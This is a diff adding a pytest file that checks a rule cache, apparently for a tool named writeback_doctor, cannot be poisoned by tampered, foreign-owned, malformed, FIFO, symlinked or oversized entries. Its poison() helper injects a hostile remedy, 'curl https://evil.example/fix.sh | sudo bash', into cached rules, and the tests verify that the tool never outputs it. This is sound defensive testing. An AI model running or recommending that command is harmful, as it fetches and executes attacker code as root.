@@ -1,0 +1,177 @@
+"""A rule cache that cannot be poisoned (reliability review D6): only our own, unshared, signed,
+size-capped regular files are read; anything else, and any read error, is a miss (the rules are
+validated again); temporary files never stay behind; the suite never touches ~/.cache."""
+
+from __future__ import annotations
+
+import json
+import os
+import stat
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+from engine import load_ruleset, rule_cache
+from engine.loader import FRAME_FILE
+
+REPO = Path(__file__).resolve().parent.parent
+RULES = REPO / "rules"
+
+
+@pytest.fixture(scope="module")
+def fresh():
+    """The shipped rules, validated without any cache."""
+    return load_ruleset(RULES).ruleset
+
+
+@pytest.fixture
+def cache(tmp_path) -> Path:
+    folder = tmp_path / "cache"
+    assert load_ruleset(RULES, cache_dir=folder).problems == ()
+    return folder
+
+
+def entry(cache: Path) -> Path:
+    (found,) = cache.glob("rules-*.json")
+    return found
+
+
+def poison(path: Path) -> None:
+    """What the review did: every finding's condition replaced by one that never holds, a remedy replaced."""
+    mac, _, payload = path.read_bytes().partition(b"\n")
+    documents = json.loads(payload)
+    for document in documents:
+        for finding in document["rule"]["findings"]:
+            finding["when"] = {"fact": "tenant.cloud", "equals": "never"}
+            finding["remedy"] = {"en": "curl https://evil.example/fix.sh | sudo bash", "uk": "x"}
+    path.write_bytes(mac + b"\n" + json.dumps(documents).encode())
+
+
+def test_a_valid_entry_is_used(cache, fresh, monkeypatch):
+    monkeypatch.setattr("engine.loader._load_rule_document", lambda *a: pytest.fail("validated again"))
+    assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh
+
+
+def test_a_changed_entry_is_not_believed(cache, fresh):
+    poison(entry(cache))
+    assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh
+
+
+def test_a_poisoned_shared_cache_does_not_change_the_verdict(cache):
+    poison(entry(cache))
+    env = dict(os.environ, WRITEBACK_DOCTOR_CACHE=str(cache))
+    done = subprocess.run([sys.executable, "-m", "writeback_doctor", "examples/sspr-off.json"], cwd=REPO, env=env,
+                          capture_output=True, text=True, timeout=120)
+    assert done.returncode == 1 and "evil.example" not in done.stdout, done.stderr
+
+
+@pytest.mark.skipif(not hasattr(os, "chown") or os.geteuid() != 0, reason="needs root to give a file away")
+def test_an_entry_owned_by_someone_else_is_ignored(cache, fresh):
+    os.chown(entry(cache), 65534, 65534)  # nobody
+    assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh
+    assert rule_cache.read_cached(cache, entry(cache).name[6:-5]) is not None  # rewritten as ours
+    os.chown(entry(cache), 65534, 65534)
+    assert rule_cache.read_cached(cache, entry(cache).name[6:-5]) is None
+
+
+def test_an_entry_others_can_write_is_ignored(cache):
+    path = entry(cache)
+    key = path.name[len("rules-"):-len(".json")]
+    assert rule_cache.read_cached(cache, key) is not None
+    os.chmod(path, 0o666)
+    assert rule_cache.read_cached(cache, key) is None
+    os.chmod(path, 0o600)
+    os.chmod(cache / "secret", 0o622)
+    assert rule_cache.read_cached(cache, key) is None
+
+
+def test_a_renamed_entry_is_not_taken_for_another_rule_set(cache):
+    path = entry(cache)
+    other = cache / ("rules-" + "0" * 64 + ".json")
+    os.link(path, other)
+    assert rule_cache.read_cached(cache, "0" * 64) is None
+
+
+@pytest.mark.parametrize("item", [42, {}, "x", {"id": "x", "severity": "nonsense"},
+                                  {"rule": {"id": "x"}, "lines": {}}, {"rule": 42, "lines": []}])
+def test_malformed_entries_even_correctly_signed_are_a_miss(cache, fresh, item):
+    path = entry(cache)
+    key = path.name[len("rules-"):-len(".json")]
+    count = len(json.loads(path.read_bytes().partition(b"\n")[2]))  # as many as there are rule files
+    payload = json.dumps([item] * count).encode()
+    secret = (cache / "secret").read_bytes()
+    path.write_bytes(rule_cache._mac(secret, key, payload).encode() + b"\n" + payload)
+    assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh
+
+
+def test_a_deeply_nested_signed_entry_is_a_miss(cache, fresh):
+    path = entry(cache)
+    key = path.name[len("rules-"):-len(".json")]
+    payload = b"[" * 100_000 + b"]" * 100_000
+    path.write_bytes(rule_cache._mac((cache / "secret").read_bytes(), key, payload).encode() + b"\n" + payload)
+    assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh
+
+
+def test_a_fifo_entry_does_not_hang(cache, fresh):
+    path = entry(cache)
+    path.unlink()
+    os.mkfifo(path, 0o600)
+    result = {}
+    worker = threading.Thread(target=lambda: result.update(r=load_ruleset(RULES, cache_dir=cache)), daemon=True)
+    worker.start()
+    worker.join(timeout=60)
+    assert not worker.is_alive() and result["r"].ruleset == fresh
+
+
+def test_a_symlink_to_an_endless_file_is_not_read(cache, fresh):
+    path = entry(cache)
+    path.unlink()
+    os.symlink("/dev/zero", path)
+    assert load_ruleset(RULES, cache_dir=cache).ruleset == fresh
+
+
+def test_an_entry_over_the_size_cap_is_not_read(cache, monkeypatch):
+    key = entry(cache).name[len("rules-"):-len(".json")]
+    assert rule_cache.read_cached(cache, key) is not None
+    monkeypatch.setattr(rule_cache, "MAX_ENTRY_BYTES", 1000)
+    assert rule_cache.read_cached(cache, key) is None
+
+
+def test_a_failed_rename_leaves_no_temporary_file(tmp_path, monkeypatch):
+    cache = tmp_path / "cache"
+
+    def refuse(*_):
+        raise OSError(18, "Invalid cross-device link")
+
+    monkeypatch.setattr(os, "replace", refuse)
+    for _ in range(3):
+        assert load_ruleset(RULES, cache_dir=cache).problems == ()
+    assert sorted(p.name for p in cache.iterdir()) == ["secret"]
+
+
+def test_temporaries_of_killed_runs_are_removed_by_the_next_write(tmp_path):
+    cache = tmp_path / "cache"
+    cache.mkdir()
+    old, recent = cache / "tmpabc123.tmp", cache / ".rules-xyz.tmp"
+    old.write_text("x")
+    recent.write_text("x")
+    os.utime(old, (time.time() - 7200, time.time() - 7200))
+    load_ruleset(RULES, cache_dir=cache)
+    assert not old.exists() and recent.exists()  # a recent one may belong to a run still writing
+
+
+def test_the_secret_is_private():
+    from tests.conftest import SUITE_CACHE
+    load_ruleset(RULES, cache_dir=Path(SUITE_CACHE))
+    assert stat.S_IMODE((Path(SUITE_CACHE) / "secret").stat().st_mode) == 0o600
+
+
+def test_the_suite_uses_its_own_cache_not_the_users():
+    from writeback_doctor.knowledge import cache_directory
+    from tests.conftest import SUITE_CACHE
+    assert cache_directory() == Path(SUITE_CACHE)
+    assert not str(cache_directory()).startswith(os.path.expanduser("~"))
